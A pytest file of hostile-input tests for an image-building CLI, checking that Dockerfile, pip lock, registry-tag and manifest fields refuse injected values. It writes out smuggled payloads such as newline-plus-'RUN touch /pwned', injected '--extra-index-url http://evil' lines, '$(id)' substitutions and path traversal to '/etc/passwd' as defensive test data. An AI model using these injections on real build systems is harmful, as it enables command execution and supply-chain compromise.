"""Hostile inputs, second round: one test group per class of docs/faults.md's third table.  Each case
asserts the exit code, that the message names the field or file, and that nothing was written or changed;
the classes' examples first, then cases of their own (the rule, not the example, is what is kept)."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from builder import values
from builder.cli import main
from builder.errors import BadInput

from .conftest import ROOT, cli, render_args, tiny_context

SECRET = "s3cr3t-PW-round2"


def run(*args: str, env: dict | None = None):
    """The CLI in this process (exit codes and messages as in a subprocess: ErrorHandlingGroup)."""
    r = CliRunner().invoke(main, list(args), env=env)
    out = r.output  # stdout and stderr, interleaved
    assert r.exit_code != 70 and "Traceback" not in out and "This is a bug" not in out, out
    return r.exit_code, out


def _files(d: Path) -> dict[str, str]:
    return (
        {str(p.relative_to(d)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(d.rglob("*")) if p.is_file()}
        if d.exists()
        else {}
    )


# ============================================================== 1. Dockerfile injection through a manifest
@pytest.mark.parametrize(
    "field, value",
    [
        ("digest", "sha256:" + "0" * 64 + "\nRUN touch /pwned"),
        ("ref", "vllm/vllm-openai:v0.26.0\nRUN touch /pwned"),
        ("ref", "vllm/vllm-openai:v0.26.0 AS x"),
        ("digest", "sha256:" + "0" * 63 + "\x1b"),
    ],
)
def test_a_manifest_image_field_outside_its_grammar_is_refused_by_render(tmp_path, field, value):
    ctx, _plan = tiny_context(tmp_path)
    before = _files(ctx)
    doc = json.loads((tmp_path / "base.json").read_text())
    doc["image"][field] = value
    (tmp_path / "base.json").write_text(json.dumps(doc))
    code, out = run(*render_args(tmp_path, ctx))
    assert code == 2 and f"'image.{field}'" in out, out
    assert "RUN touch" not in out.replace(repr(value)[:80], "") and _files(ctx) == before


@pytest.mark.parametrize("field", ["name", "version"])
def test_a_manifest_distribution_name_or_version_outside_pep_508_440_is_refused(tmp_path, field):
    tiny_context(tmp_path)
    doc = json.loads((tmp_path / "base.json").read_text())
    doc["distributions"]["numpy"][field] = "numpy\n--extra-index-url http://evil/" if field == "name" else "1.0;rm"
    (tmp_path / "base.json").write_text(json.dumps(doc))
    code, out = run(*render_args(tmp_path, tmp_path / "ctx2"))
    assert code == 2 and "'distributions.numpy" in out and not (tmp_path / "ctx2").exists(), out


def test_base_snapshot_image_ref_with_a_newline_is_refused_and_writes_nothing(tmp_path):
    sp = _site(tmp_path / "sp", [("purepkg", "1.0")])
    out = tmp_path / "m.json"
    code, msg = run(
        "base",
        "snapshot",
        "--site-packages",
        str(sp),
        "--python",
        "3.12",
        "--glibc",
        "2.35",
        "--image-ref",
        "vllm/vllm-openai:v0.26.0\nRUN id",
        "-o",
        str(out),
    )
    assert code == 2 and "'image.ref'" in msg and not out.exists(), msg


def test_a_raw_string_with_a_line_break_cannot_reach_the_dockerfile_or_the_lock(tmp_path):
    """The generators' own guard (the template's finalize, the lock writer): a value that skipped its boundary
    (set on the object after construction, as a regression would) is refused, never written."""
    from builder.image.render import render_dockerfile

    _ctx, plan = tiny_context(tmp_path)
    assert "RUN" in render_dockerfile(plan)  # the guard passes typed values and clean strings
    plan.base.python_version = "3.12\nRUN touch /pwned"  # a raw str, past the manifest's constructor
    with pytest.raises(BadInput, match="control character"):
        render_dockerfile(plan)
    plan.base.python_version = "3.12"
    plan.lock.entries[0].via = ["-r overlay\n--extra-index-url http://evil.example/"]
    with pytest.raises(BadInput, match="control character"):
        plan.lock.format()
    assert values.guard(values.Digest("sha256:" + "a" * 64)) == "sha256:" + "a" * 64
    with pytest.raises(BadInput):
        values.guard("ok\u2028RUN x")


@pytest.mark.parametrize(
    "cls, good, bad",
    [
        (
            values.ImageRef,
            ["vllm/vllm-openai:v0.26.0", "127.0.0.1:5000/a/b@sha256:" + "a" * 64, "localhost/x"],
            ["x\ny", "UPPER/x", "a b", "ev$(id).io:5000/x", "reg.io/x:" + "t" * 200, "/x", "x:"],
        ),
        (values.Digest, ["sha256:" + "0" * 64], ["sha256:" + "0" * 64 + "\n", "sha256:" + "A" * 64, "md5:00"]),
        (
            values.Repository,
            ["127.0.0.1:5000/serving/vllm", "reg.example/x"],
            ["ev$(id).io:5000/x", "reg.io/x:tag", "reg.io:port/x", "a\x1b[2Jb/x"],
        ),
        (values.DistName, ["numpy", "zope.interface", "a_b-c"], ["../../x pkg;rm", "-x", "x\n", ""]),
        (values.Version, ["1.26.4", "2.0.0rc1", "1.0+local.1"], ["latest", "1.0;rm", "1.0\n"]),
        (
            values.Url,
            ["https://h/simple", "file:///srv/w.whl"],
            ["https://h/a b", "ftp://h/", "https://h:x/", "http:///"],
        ),
    ],
)
def test_typed_constructors_hold_their_grammar(cls, good, bad):
    for v in good:
        assert cls(v, "f") == v and isinstance(cls(v, "f"), cls)
    for v in bad:
        with pytest.raises(BadInput, match="^f|f "):
            cls(v, "f")


# ============================================================== 2. line injection through a pylock
def _pylock(tmp_path: Path, edit) -> Path:
    import tomli_w

    from builder.resolve.lockfile import format_pylock, load_lock

    if sys.version_info >= (3, 11):
        import tomllib
    else:  # pragma: no cover
        import tomli as tomllib
    lock = load_lock(tmp_path / "requirements.lock")
    doc = tomllib.loads(format_pylock(lock))
    edit(doc)
    p = tmp_path / "pylock.toml"
    p.write_text(tomli_w.dumps(doc))
    return p


@pytest.mark.parametrize(
    "where, edit",
    [
        (
            "via",
            lambda d: d["packages"][0]["tool"]["build-image"].__setitem__(
                "via", ["-r overlay\n--extra-index-url http://evil.example/simple\nevil==6.6.6"]
            ),
        ),
        ("header", lambda d: d["tool"]["build-image"]["header"].__setitem__("tool", "t\n--index-url http://evil/")),
        ("overlay", lambda d: d["tool"]["build-image"].__setitem__("overlay", ["six\nevil==1"])),
        ("name", lambda d: d["packages"][0]["tool"]["build-image"].__setitem__("name", "six\nevil")),
    ],
)
def test_a_pylock_value_with_a_line_break_is_refused_by_render_and_lock_check(tmp_path, where, edit):
    tiny_context(tmp_path)
    p = _pylock(tmp_path, edit)
    out = tmp_path / "ctx2"
    args = render_args(tmp_path, out)
    args[args.index("--lock") + 1] = str(p)
    code, msg = run(*args)
    assert code == 2 and str(p) in msg and not out.exists(), msg
    from builder.resolve.lockfile import parse_pylock_lock

    with pytest.raises(BadInput):
        parse_pylock_lock(p.read_text(), str(p))


# ============================================================== 14. a lock header key written twice
def test_a_duplicated_header_key_is_refused_and_named_by_diff(tmp_path):
    from builder.resolve.lockfile import parse_lock

    tiny_context(tmp_path)
    text = (tmp_path / "requirements.lock").read_text()
    edited = text.replace("# build-image-lock: 1\n", "# build-image-lock: 1\n# vllm: 0.25.0\n", 1)
    assert edited != text
    with pytest.raises(BadInput, match="names 'vllm' a second time"):
        parse_lock(edited, "r.lock")
    loose = parse_lock(edited, "r.lock", strict=False)
    assert loose.header["vllm"] == "0.25.0" and any("a second time" in p for p in loose.problems)


# ============================================================== 10. the registry part of --tag; the hint
@pytest.mark.parametrize("tag", ["ev$(id).io:5000/x", "reg.io\x1b]0;pwned\x07/x", "reg.io:5000/x\n-t evil"])
def test_a_tag_outside_the_reference_grammar_is_refused_before_anything(tmp_path, tag):
    tiny_context(tmp_path)
    out = tmp_path / "ctx2"
    code, msg = run(*render_args(tmp_path, out), "--tag", tag)
    assert code == 2 and "--tag" in msg and not out.exists(), msg
    assert "\x1b" not in msg and "\x07" not in msg


def test_the_build_hint_quotes_every_word():
    from builder.image.render import build_hint

    hint = build_hint("/tmp/my ctx$(id)", "127.0.0.1:5000/f/vllm", ["127.0.0.1:5000/f/vllm:vllm0.26.0"])
    assert "'/tmp/my ctx$(id)'" in hint and "$(id)" not in hint.replace("'/tmp/my ctx$(id)'", "")


# ============================================================== 11. KubeRay serving values: one validator each
@pytest.mark.parametrize("value", ["pvc:claim\n", "pvc:Claim", "pvc:", "pvc:a/b", "node\n", "pvc:" + "a" * 254])
def test_compile_cache_outside_its_grammar_is_refused(value):
    with pytest.raises(BadInput, match="compile_cache"):
        values.compile_cache(value)
    assert values.compile_cache("pvc:vllm-cache.v1") == "pvc:vllm-cache.v1"


@pytest.mark.parametrize(
    "serving", [dict(kv_cache_dtype="fp9"), dict(compile_cache="pvc:claim\n"), dict(model="/models/qwen\nkind: Secret")]
)
def test_kuberay_refuses_what_plan_and_smoke_refuse(serving):
    from builder.serving import kuberay
    from builder.serving.plan import check_kv_cache_dtype, release_facts
    from tests.test_kuberay import make_lock, make_spec

    spec = make_spec(**serving)
    with pytest.raises(BadInput):
        kuberay.serve_config(spec, make_lock())
    if "kv_cache_dtype" in serving:
        with pytest.raises(BadInput):  # the same validator plan and smoke call
            check_kv_cache_dtype("fp9", release_facts(None))


# ============================================================== 7, 12. plan's file inputs and numbers
#: a model the planner reads (28 layers x 8 KV heads x head_dim 128, about 600 GB of weights on 8 GPUs)
MODEL_CONFIG = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "num_hidden_layers": 28,
    "hidden_size": 8192,
    "intermediate_size": 28672,
    "num_attention_heads": 64,
    "num_key_value_heads": 8,
    "head_dim": 128,
    "vocab_size": 128256,
    "max_position_embeddings": 1000000,
    "torch_dtype": "bfloat16",
}


@pytest.fixture(scope="module")
def plan_args(tmp_path_factory) -> list[str]:
    d = tmp_path_factory.mktemp("model")
    (d / "config.json").write_text(json.dumps(MODEL_CONFIG))
    return [
        "plan",
        "--model",
        str(d),
        "--weights-bytes",
        "600GB",
        "--gpus",
        "8",
        "--tp",
        "8",
        "--gpu-memory",
        "h200",
        "--max-model-len",
        "4096",
    ]


def _strict_json(text: str):
    def no_constant(name):
        raise AssertionError(f"{name} is not JSON")

    return json.loads(text, parse_constant=no_constant)


@pytest.mark.parametrize("rate", ["1e-300b/s", "1e-320", "1e400GB/s", "nan", "inf"])
def test_plan_refuses_a_rate_that_gives_no_finite_time(plan_args, rate):
    code, out = run(*plan_args, "--json", "--image-size", "12GB", "--pull-bandwidth", rate)
    assert code == 2 and "--pull-bandwidth" in out, out


@pytest.mark.parametrize(
    "doc",
    [
        {"layers": [{"size": "abc"}]},
        {"layers": [{"size": 10**400}]},
        {"layers": [{"size": 1.5}]},
        {"layers": [{"size": -1}]},
        {"layers": [{"size": 1}], "config": "x"},
        "deep",
    ],
)
def test_plan_image_manifest_sizes_go_through_the_number_rules(plan_args, tmp_path, doc):
    p = tmp_path / "m.json"
    p.write_text("[" * 100_000 + "]" * 100_000 if doc == "deep" else json.dumps(doc))
    for flag in ("--image-manifest", "--image-result"):
        code, out = run(*plan_args, "--json", flag, str(p))
        assert code == 2 and str(p) in out, out


@pytest.mark.parametrize("flag", ["--image-manifest", "--image-result"])
def test_plan_image_files_are_read_bounded(plan_args, tmp_path, flag):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path in ("/dev/zero", str(fifo), str(tmp_path)):
        code, out = run(*plan_args, flag, path)
        assert code == 2 and path in out, out


def test_plan_json_is_valid_json_at_the_edges(plan_args):
    code, out = run(*plan_args, "--json", "--image-size", "1000000GB", "--pull-bandwidth", "1b/s")
    assert code in (0, 1), out
    _strict_json(out[out.index("{") :])


# ============================================================== 4, 6. recipes --write under the output rule
def test_recipes_write_refuses_a_user_file_a_device_and_a_fifo_before_any_fetch(tmp_path):
    mine = tmp_path / "recipes.toml"
    mine.write_text("# my notes\n")
    link = tmp_path / "link.toml"
    link.symlink_to(mine)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    env = {"UV_DEFAULT_INDEX": "http://127.0.0.1:9/simple", "UV_HTTP_RETRIES": "0"}
    for target in (mine, link, Path("/dev/null"), fifo):
        code, out = run("base", "recipe", "--vllm", "0.26.0", "--write", "--recipes", str(target), env=env)
        assert code == 2 and str(target) in out, out
    assert mine.read_text() == "# my notes\n" and link.is_symlink()


_WRITER = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from builder.resolve.recipe import table

    render = table.render_recipes

    def slow(tables, *args):
        time.sleep(0.6)  # the read-modify-write window two runs would otherwise share
        return render(tables, *args)

    table.render_recipes = slow
    t = {"sdist_sha256": (sys.argv[2].replace(".", "") * 64)[:64], "platform": "x86_64-manylinux_2_35"}
    table.write_recipe_table(Path(sys.argv[1]), sys.argv[2], t, force=False)
""")


def test_two_recipe_writes_for_different_releases_both_land(tmp_path):
    from builder.resolve.recipe import parse_recipes

    path = tmp_path / "recipes.toml"
    env = dict(os.environ, PYTHONPATH=str(ROOT), TMPDIR=str(tmp_path))
    procs = [
        subprocess.Popen([sys.executable, "-c", _WRITER, str(path), v], env=env, stderr=subprocess.PIPE, text=True)
        for v in ("0.26.0", "0.27.0")
    ]
    for p in procs:
        assert p.wait(timeout=60) == 0, p.stderr.read()
    assert sorted(parse_recipes(path.read_text(), str(path))) == ["0.26.0", "0.27.0"]


# ============================================================== 4, 13. smoke --save-reference
def test_save_reference_refuses_what_it_did_not_write_and_redacts(tmp_path):
    from builder.serving.smoke import equivalence as eqv

    user = tmp_path / "mine.json"
    user.write_text('{"mine": true}\n')
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for target in (user, fifo, tmp_path, Path("/dev/null")):
        with pytest.raises(BadInput):
            eqv.check_reference_output(str(target))
    assert user.read_text() == '{"mine": true}\n'
    doc = {
        "schema": eqv.SCHEMA,
        "model": {"config": {"_name_or_path": f"https://bot:{SECRET}@hub.example/m"}, "identity_sha256": "0" * 64},
        "prompts": [],
    }
    real = tmp_path / "refs" / "ref.json"
    real.parent.mkdir()
    link = tmp_path / "ref.json"
    link.symlink_to(real)
    eqv.write_reference(str(link), doc)
    eqv.write_reference(str(link), doc)  # its own file: replaced
    assert link.is_symlink() and SECRET not in real.read_text() and "****@hub.example" in real.read_text()
    assert json.loads(real.read_text())["model"]["identity_sha256"] == "0" * 64  # compared fields unchanged
    # check_compatible compares the reference's config with this model's as the file holds it (redacted):
    # a credential in the model's config is not a difference
    from builder.credentials import redact_value

    ours = {"_name_or_path": f"https://bot:{SECRET}@hub.example/m"}
    assert json.loads(real.read_text())["model"]["config"] == redact_value(ours)


# ============================================================== 5. a read-only -o
@pytest.fixture
def read_only(tmp_path):
    d = tmp_path / "ro"
    d.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(d)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        if subprocess.run(["mount", "-o", "remount,ro", str(d)], capture_output=True).returncode:
            pytest.skip("cannot remount read-only here")
        yield d
    finally:
        subprocess.run(["umount", str(d)], capture_output=True)


@pytest.mark.parametrize(
    "args",
    [
        ["patch", "port", "--from", "0.26.0", "--to", "0.27.0", "-o"],
        ["upgrade", "--from", "0.26.0", "--to", "0.27.0", "-o"],
    ],
)
def test_a_read_only_output_is_exit_2_naming_it_before_any_work(read_only, tmp_path, args):
    out = read_only / "pr"
    r = cli([*args, str(out)], env={"BUILD_IMAGE_CACHE": str(tmp_path / "cache")}, timeout=60)
    assert r.returncode == 2 and str(out) in r.stderr and "read-only" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr


def test_a_write_error_met_later_is_exit_2_naming_the_file(read_only):
    from builder.patching.port import write_series

    class _Report:
        patches, to_version, from_version = [], "0.27.0", "0.26.0"

    class _Series:
        patches, package, dir = [], "vllm", read_only

    with pytest.raises(BadInput, match="cannot write .*Read-only"):
        write_series(_Report(), _Series(), read_only / "x", b_originals={}, wheel=None)


# ============================================================== 8, 9. the site-packages scanner
def _site(root: Path, dists: list[tuple[str, str]], record: dict[str, list[str]] | None = None) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, version in dists:
        di = root / f"{name.replace('/', '_').replace(' ', '_')[:40]}-{len(name)}.dist-info"
        di.mkdir()
        (di / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        (di / "RECORD").write_text("\n".join((record or {}).get(name, [])) + "\n")
    return root


def _snapshot_cli(sp: Path, out: Path, timeout: int = 60):
    return cli(
        ["base", "snapshot", "--site-packages", str(sp), "--python", "3.12", "--glibc", "2.35", "-o", str(out)],
        timeout=timeout,
    )


def test_the_scanner_opens_only_regular_files_inside_its_tree(tmp_path):
    sp = tmp_path / "site"
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "evil.so").write_bytes(b"\x7fELF" + b"\0" * 60)
    _site(
        sp,
        [("fifopkg", "1.0"), ("outpkg", "1.0"), ("longpkg", "1.0"), ("pure", "1.0")],
        record={
            "fifopkg": ["fifopkg/pipe.so,,"],
            "outpkg": ["../outside/evil.so,,", "/etc/passwd,,"],
            "longpkg": ["x" * 200_000 + ",,", '"unterminated,,'],
        },
    )
    (sp / "fifopkg").mkdir()
    os.mkfifo(sp / "fifopkg" / "pipe.so")
    (sp / "dev.so").symlink_to("/dev/zero")
    out = tmp_path / "m.json"
    r = _snapshot_cli(sp, out)  # a FIFO opened for reading would hang past the timeout
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    dists = json.loads(out.read_text())["distributions"]
    assert dists["outpkg"]["binary"] is False and dists["fifopkg"]["binary"] is False
    assert "outside" in r.stderr and "FIFO" in r.stderr and "longer than" in r.stderr


def test_top_level_txt_naming_the_root_walks_nothing(tmp_path):
    sp = tmp_path / "site"
    sp.mkdir()
    egg = sp / "legacy-1.0.egg-info"
    egg.mkdir()
    (egg / "PKG-INFO").write_text("Metadata-Version: 1.0\nName: legacy\nVersion: 1.0\n")
    (egg / "top_level.txt").write_text("/\n..\nlegacy\n")
    out = tmp_path / "m.json"
    r = _snapshot_cli(sp, out, timeout=30)
    assert r.returncode == 0 and "'/' is not a module name" in r.stderr, r.stderr


def test_a_name_or_version_outside_pep_508_440_is_left_out_with_a_warning(tmp_path):
    sp = _site(tmp_path / "site", [("../../x pkg;rm", "1.0"), ("good", "1.0"), ("badver", "1.0;rm")])
    out = tmp_path / "m.json"
    r = _snapshot_cli(sp, out)
    assert r.returncode == 0, r.stderr
    assert set(json.loads(out.read_text())["distributions"]) == {"good"}
    assert "'../../x pkg;rm'" in r.stderr and "'1.0;rm'" in r.stderr and "left out" in r.stderr


def test_an_unreadable_metadata_is_exit_2_naming_it(tmp_path):
    sp = _site(tmp_path / "site", [("good", "1.0")])
    meta = next(sp.glob("*.dist-info")) / "METADATA"
    meta.unlink()
    os.mkfifo(meta)
    out = tmp_path / "m.json"
    r = _snapshot_cli(sp, out)
    assert r.returncode == 2 and "METADATA" in r.stderr and "FIFO" in r.stderr and not out.exists(), r.stderr


# ============================================================== 7. reconstruct's file inputs
def test_reconstruct_reads_recipes_and_check_output_bounded(tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    code, out = run("base", "reconstruct", "--vllm", "0.26.0", "--check", "-o", str(deep))
    assert code == 2 and str(deep) in out, out
    code, out = run(
        "base", "reconstruct", "--vllm", "0.26.0", "--recipes", "/dev/zero", "-o", str(tmp_path / "new.json")
    )
    assert code == 2 and "/dev/zero" in out and not (tmp_path / "new.json").exists(), out


# ============================================================== recipe sdists: a RUN line never hangs the parse
@pytest.mark.parametrize("line", ["RUN uv pip install x )", "RUN uv pip install x; fi", "RUN uv pip install a && then"])
def test_a_stray_shell_keyword_in_a_run_line_never_hangs_the_recipe(line):
    """Found by tests/test_fuzz.py (nightly): `base recipe` on such an sdist hangs instead of exit 2."""
    from builder.resolve import recipe as R
    from tests.fx_sdist import build_files
    from tests.test_fuzz import bounded

    files = build_files()
    lines = files["docker/Dockerfile"].split("\n")
    lines.insert(20, line)  # inside the final stage's chain (vllm-openai-base)
    files["docker/Dockerfile"] = "\n".join(lines)
    with bounded(2):
        try:
            R.derive(R.BuildFiles("0.99.0", R.SdistRef("vllm-0.99.0.tar.gz", "0" * 64), files))
        except BadInput:
            pass  # a refusal is the expected answer


# ============================================================== registry answers: never an internal error
@pytest.mark.parametrize("body", [b"[" * 100_000, b"not json", b"[1, 2]", b"\xff\xfe", b'"a string"'])
def test_a_malformed_or_deep_registry_answer_is_a_registry_error(body):
    from builder.errors import RegistryError
    from builder.image.registry import registry_json

    with pytest.raises(RegistryError) as exc:
        registry_json(body, "the manifest r@sha256:x", "127.0.0.1:5000")
    assert exc.value.exit_code == 10 and "127.0.0.1:5000" in str(exc.value)
